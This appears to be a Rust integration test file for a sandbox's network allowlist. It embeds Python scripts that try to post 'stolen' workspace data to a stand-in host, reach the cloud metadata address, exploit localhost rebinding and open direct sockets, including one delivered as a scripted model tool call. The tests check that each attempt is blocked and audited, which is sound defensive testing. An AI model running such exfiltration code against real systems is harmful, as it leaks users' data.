//! `interlock sandbox --allow-net`: the real binary, its proxy and its audit log. The allowed-host
//! path against local servers is in crates/sandbox/tests/network.rs (it needs the code-only test
//! resolver); here every attempt the program makes must be refused, shown and audited, and a
//! `pip download` from the package index works where this machine reaches it.

mod common;

use common::*;
use interlock_testkit::{Reply, ScriptedServer};

/// Exfiltration attempts from inside the sandbox; one line each: `NAME ok …` or `NAME err …`.
const ATTEMPTS: &str = r#"
import socket, urllib.request, urllib.error
def get(name, url):
    try:
        with urllib.request.urlopen(url, data=b"stolen=workspace", timeout=20) as r:
            print(name, "ok", r.status)
    except urllib.error.HTTPError as e:
        print(name, "err", e.code, e.headers.get("X-Interlock-Denied"))
    except Exception as e:
        print(name, "err", type(e).__name__)
get("unlisted", "http://exfil.invalid/upload")
get("ip_literal", "http://127.0.0.1:9/upload")
get("metadata", "http://169.254.169.254/latest/meta-data/")
get("rebinding", "http://localhost:8080/upload")
try:
    s = socket.create_connection(("127.0.0.1", 22), timeout=5)
    print("direct", "ok")
except Exception as e:
    print("direct", "err", type(e).__name__)
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    print("unix", "ok")
except Exception as e:
    print("unix", "err", type(e).__name__)
"#;

fn line<'a>(out: &'a str, name: &str) -> &'a str {
    out.lines()
        .find(|l| l.split_whitespace().next() == Some(name))
        .unwrap_or_else(|| panic!("no line for {name} in:\n{out}"))
}

fn audit_export(env: &Env) -> String {
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args(["audit", "export"]);
    String::from_utf8_lossy(&run(c).stdout).into_owned()
}

fn userns() -> bool {
    // The allowlist needs the sandbox's own network namespace.
    let ok = std::process::Command::new("unshare")
        .args(["-Ur", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("SKIP: no user namespaces here");
    }
    ok
}

#[test]
fn every_exfiltration_attempt_is_refused_shown_and_audited() {
    if !userns() {
        return;
    }
    let env = Env::new();
    write(&env.ws().join("attempts.py"), ATTEMPTS);
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args([
        "sandbox",
        "--allow-net",
        "pypi",
        "--allow-net",
        "localhost:8080",
        "--",
        "/usr/bin/python3",
        "attempts.py",
    ]);
    let out = run(c);
    let so = String::from_utf8_lossy(&out.stdout).into_owned();
    let se = stderr(&out);
    eprintln!("stdout:\n{so}\nstderr:\n{se}");
    assert_eq!(code(&out), 0);
    assert_eq!(line(&so, "unlisted"), "unlisted err 403 not-allowed");
    assert_eq!(line(&so, "ip_literal"), "ip_literal err 403 ip-literal");
    assert_eq!(line(&so, "metadata"), "metadata err 403 ip-literal");
    // localhost is on the list by name, but it resolves to loopback: refused after resolution.
    assert_eq!(
        line(&so, "rebinding"),
        "rebinding err 403 forbidden-address"
    );
    assert!(line(&so, "direct").contains(" err "), "{so}");
    assert_eq!(line(&so, "unix"), "unix err PermissionError");
    // A line to the user for every refusal.
    for host in [
        "exfil.invalid:80",
        "127.0.0.1:9",
        "169.254.169.254:80",
        "localhost:8080",
    ] {
        assert!(
            se.contains(&format!("interlock: network: blocked {host}:")),
            "{host} not shown:\n{se}"
        );
    }
    // And an audit record naming each attempt.
    let audit = audit_export(&env);
    let denied: Vec<&str> = audit.lines().filter(|l| l.contains("net.denied")).collect();
    for host in ["exfil.invalid", "127.0.0.1", "169.254.169.254", "localhost"] {
        assert!(
            denied
                .iter()
                .any(|l| l.contains(&format!("\"host\":\"{host}\""))),
            "{host} not audited:\n{audit}"
        );
    }
}

#[test]
fn bad_allow_net_entries_are_refused_before_anything_runs() {
    let env = Env::new();
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args(["sandbox", "--allow-net", "*.org", "--", "true"]);
    let out = run(c);
    assert_ne!(code(&out), 0);
    assert!(stderr(&out).contains("too broad"), "{}", stderr(&out));
    std::fs::create_dir_all(env.home()).unwrap();
    write(
        &env.home().join("config.toml"),
        "allow_net = [\"http://pypi.org\"]\n",
    );
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args(["sandbox", "--", "true"]);
    let out = run(c);
    assert_ne!(code(&out), 0);
    assert!(stderr(&out).contains("allow_net"), "{}", stderr(&out));
}

#[test]
fn explain_shows_the_allowlist() {
    let env = Env::new();
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args(["sandbox", "--explain", "--allow-net", "pypi", "--", "true"]);
    let out = run(c);
    let so = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(so.contains("only way out is interlock's proxy"), "{so}");
    assert!(so.contains("pypi"), "{so}");
}

#[test]
fn pip_download_works_when_the_index_is_allowed() {
    if !userns() || !have("/usr/bin/python3") {
        return;
    }
    let env = Env::new();
    let mut c = env.cmd("http://127.0.0.1:9");
    c.args([
        "sandbox",
        "--allow-net",
        "pypi",
        "--",
        "/usr/bin/python3",
        "-m",
        "pip",
        "download",
        "--no-deps",
        "--retries",
        "0",
        "-d",
        "/tmp/dl",
        "six",
    ]);
    let out = run(c);
    let so = String::from_utf8_lossy(&out.stdout).into_owned();
    let se = stderr(&out);
    if code(&out) != 0 && !se.contains("interlock: network: blocked") {
        eprintln!("SKIP: this machine does not reach the package index:\n{se}");
        return;
    }
    assert!(
        so.contains("Successfully downloaded six"),
        "stdout:\n{so}\nstderr:\n{se}"
    );
    assert!(!se.contains("interlock: network: blocked"), "{se}");
}

/// The model's block in a chat session (`interlock exec`): the same proxy serves the session's
/// sandbox; a planted exfiltration is refused, shown and audited, and the allowed index works.
const CHAT_BLOCK: &str = r#"
import subprocess, sys, urllib.request, urllib.error
try:
    urllib.request.urlopen("http://exfil.invalid/upload", data=b"stolen", timeout=20)
    print("exfil ok")
except urllib.error.HTTPError as e:
    print("exfil err", e.code, e.headers.get("X-Interlock-Denied"))
except Exception as e:
    print("exfil err", type(e).__name__)
r = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--retries", "0",
                    "-d", "/tmp/dl", "six"], capture_output=True, text=True)
print("pip", r.returncode, "blocked" if "403" in r.stdout + r.stderr else "")
"#;

#[test]
fn a_chat_sessions_code_goes_out_only_through_the_proxy() {
    if !userns() || !have("/usr/bin/python3") {
        return;
    }
    let env = Env::new();
    let srv = ScriptedServer::start_background(vec![
        Reply::tool_call_stream("c1", "python", CHAT_BLOCK),
        Reply::text_stream("done"),
    ]);
    let mut c = env.cmd(&srv.base_url());
    c.args([
        "exec",
        "--auto-run",
        "--auto-run-max-risk",
        "high",
        "--json",
        "--allow-net",
        "pypi",
        "go",
    ]);
    let out = run(c);
    let text = output_text(&events(&out));
    let se = stderr(&out);
    eprintln!(
        "stdout:\n{}\nstderr:\n{se}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(text.contains("exfil err 403 not-allowed"), "{text}");
    assert!(
        se.contains("interlock: network: blocked exfil.invalid:80:"),
        "{se}"
    );
    let audit = audit_export(&env);
    assert!(
        audit
            .lines()
            .any(|l| l.contains("net.denied") && l.contains("exfil.invalid")),
        "{audit}"
    );
    // pip either worked (this machine reaches the index) or failed for want of a route, never
    // because the proxy refused the index.
    assert!(!text.contains("pip 1 blocked"), "{text}");
}
